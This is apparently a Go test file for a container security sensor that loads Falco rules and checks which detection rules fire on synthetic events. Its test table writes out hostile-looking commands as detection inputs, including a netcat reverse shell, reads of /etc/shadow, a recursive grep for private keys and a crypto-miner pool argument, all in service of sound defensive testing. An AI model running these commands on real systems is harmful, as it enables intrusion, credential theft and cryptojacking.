package rules

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pavesec/pave/internal/sensor/event"
)

var update = flag.Bool("update", false, "rewrite golden files and docs/sensor-rules.md")

// falcoFiles are the public Falco rules files, in the order Falco loads them.
var falcoFiles = []string{
	"testdata/falco/falco_rules.yaml",
	"testdata/falco/falco-incubating_rules.yaml",
	"testdata/falco/falco-sandbox_rules.yaml",
}

func falcoEngine(t testing.TB, files ...string) (*Engine, *LoadReport) {
	t.Helper()
	e, rep, err := Load(context.Background(), Options{Files: files, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	return e, rep
}

// TestFalcoFilesParse: each file is a well-formed rules file on its own,
// and the stable file compiles without undefined macros or lists.
func TestFalcoFilesParse(t *testing.T) {
	for _, f := range falcoFiles {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		s := newRuleSet()
		if err := s.load(f, data); err != nil {
			t.Errorf("%s: %v", f, err)
		}
		if len(s.rules) < 20 {
			t.Errorf("%s: only %d rules", f, len(s.rules))
		}
		if len(s.warnings) > 0 {
			t.Errorf("%s: warnings %v", f, s.warnings)
		}
	}
	_, rep := falcoEngine(t, falcoFiles[0])
	for _, r := range rep.Rules {
		for _, d := range r.Disabled {
			if strings.Contains(d, "undefined") || strings.Contains(d, "syntax") {
				t.Errorf("%s: %s", r.Name, d)
			}
		}
	}
}

// TestFalcoLoadGolden records which Falco rules run and which are
// disabled, and why.
func TestFalcoLoadGolden(t *testing.T) {
	_, rep := falcoEngine(t, falcoFiles...)
	var b strings.Builder
	en, dis := rep.Counts()
	fmt.Fprintf(&b, "%d rules: %d enabled, %d disabled\n", en+dis, en, dis)
	for _, r := range rep.Rules {
		fmt.Fprintf(&b, "\n%s | %s\n", filepath.Base(r.Source), r.Name)
		if r.Enabled {
			fmt.Fprintf(&b, "  enabled on %s\n", strings.Join(r.Types, ", "))
		}
		for _, d := range r.Disabled {
			fmt.Fprintf(&b, "  disabled: %s\n", d)
		}
		for _, n := range r.Notes {
			fmt.Fprintf(&b, "  note: %s\n", n)
		}
	}
	for _, w := range rep.Warnings {
		fmt.Fprintf(&b, "warning: %s\n", w)
	}
	golden(t, "testdata/falco-load.golden", b.String())
	if en < 50 {
		t.Errorf("only %d Falco rules enabled", en)
	}
}

func golden(t *testing.T, path, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update)", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s is out of date; run go test ./internal/sensor/rules -update (-want +got):\n%s", path, diff)
	}
}

// TestFalcoWellKnownRules: stable and sandbox rules fire on matching
// events and stay silent on near misses.
func TestFalcoWellKnownRules(t *testing.T) {
	e, _ := falcoEngine(t, falcoFiles...)
	ptrace := func(req string) *event.Event {
		return changeEv(event.Ptrace, "inject", event.Change{TargetPID: 7, Request: req})
	}
	tests := []struct {
		rule string
		ev   *event.Event
		fire bool
	}{
		{"Terminal shell in container", execEv("bash", tty, parents()), true},
		{"Terminal shell in container", execEv("bash", tty, parents("runc:[1:CHILD]")), true},
		{"Terminal shell in container", execEv("bash", tty, parents("bash")), false},
		{"Terminal shell in container", execEv("bash", parents()), false},
		{"Terminal shell in container", execEv("bash", tty, parents(), onHost), false},
		{"Read sensitive file untrusted", openEv("cat", "/etc/shadow", false, parents("bash")), true},
		{"Read sensitive file untrusted", openEv("python3", "/etc/pam.d/common-auth", false), true},
		{"Read sensitive file untrusted", openEv("sshd", "/etc/shadow", false), false},
		{"Read sensitive file untrusted", openEv("cat", "/etc/passwd", false), false},
		{"Read sensitive file untrusted", openEv("cat", "/etc/shadow", false, ret(-13)), false},
		{"Write below binary dir", openEv("curl", "/usr/bin/evil", true), true},
		{"Write below binary dir", openEv("dpkg", "/usr/bin/curl", true), false},
		{"Write below binary dir", openEv("curl", "/usr/bin/evil", false), false},
		{"Write below binary dir", openEv("curl", "/usr/local/bin/evil", true), false},
		{"Netcat Remote Code Execution in Container", execEv("nc", args("-e", "/bin/sh", "10.0.0.1", "4444")), true},
		{"Netcat Remote Code Execution in Container", execEv("nc", args("-z", "db", "5432")), false},
		{"Fileless execution via memfd_create", newEv(event.MemfdExec, "x", exe("memfd:x")), true},
		{"Fileless execution via memfd_create", execEv("runc", exe("memfd:runc_cloned:/proc/self/exe")), false},
		{"PTRACE attached to process", ptrace("PTRACE_POKETEXT"), true},
		{"PTRACE attached to process", ptrace("PTRACE_TRACEME"), false},
		{"Detect crypto miners using the Stratum protocol", execEv("x", args("-o", "stratum+tcp://p:3333")), true},
		{"Detect crypto miners using the Stratum protocol", execEv("x", args("-o", "https://p")), false},
		{"Search Private Keys or Passwords", execEv("grep", args("-r", "BEGIN RSA PRIVATE", "/")), true},
		{"Search Private Keys or Passwords", execEv("grep", args("-r", "TODO", ".")), false},
		{"Launch Privileged Container", execEv("sh", vpid(1), func(ev *event.Event) { ev.Container.Privileged = true }), true},
		{"Launch Privileged Container", execEv("sh", vpid(1)), false},
		{"Run shell untrusted", execEv("sh", args("-c", "id"), parents("nginx")), true},
		{"Run shell untrusted", execEv("sh", args("-c", "id"), parents("bash")), false},
		{"Run shell untrusted", execEv("sh", args("-c", "uname -a 2>&1"), parents("nginx")), false},
		{"Change thread namespace", changeEv(event.Setns, "nsenter", event.Change{Flags: []string{"CLONE_NEWNS"}}), true},
	}
	for _, tc := range tests {
		var fired bool
		for _, f := range e.Analyze(tc.ev) {
			if f.Rule.ID == "falco:"+tc.rule {
				fired = true
				if !strings.HasPrefix(f.Evidence, "") || strings.Contains(f.Evidence, "%") {
					t.Errorf("%s: unrendered output %q", tc.rule, f.Evidence)
				}
			}
		}
		if fired != tc.fire {
			t.Errorf("%s on %s %v: fired %v, want %v", tc.rule, tc.ev.Type, tc.ev.Proc.Args, fired, tc.fire)
		}
	}
}

// TestBuiltinWithFalco: loading Falco's files beside the built-in set
// leaves the built-in rules intact (their lists and macros are prefixed).
func TestBuiltinWithFalco(t *testing.T) {
	e, rep, err := Load(context.Background(), Options{Files: falcoFiles})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, r := range rep.Rules {
		if strings.HasPrefix(r.ID, "PAVE-RT-") {
			n++
			if !r.Enabled {
				t.Errorf("%s disabled: %v", r.ID, r.Disabled)
			}
		}
	}
	if n != 20 {
		t.Errorf("%d built-in rules after loading Falco's, want 20", n)
	}
	for _, tc := range triggers() {
		got := map[string]bool{}
		for _, f := range e.Analyze(tc.ev) {
			got[f.Rule.ID] = true
		}
		for _, id := range tc.want {
			if !got[id] {
				t.Errorf("%s: %s did not fire beside Falco's rules", tc.name, id)
			}
		}
	}
}
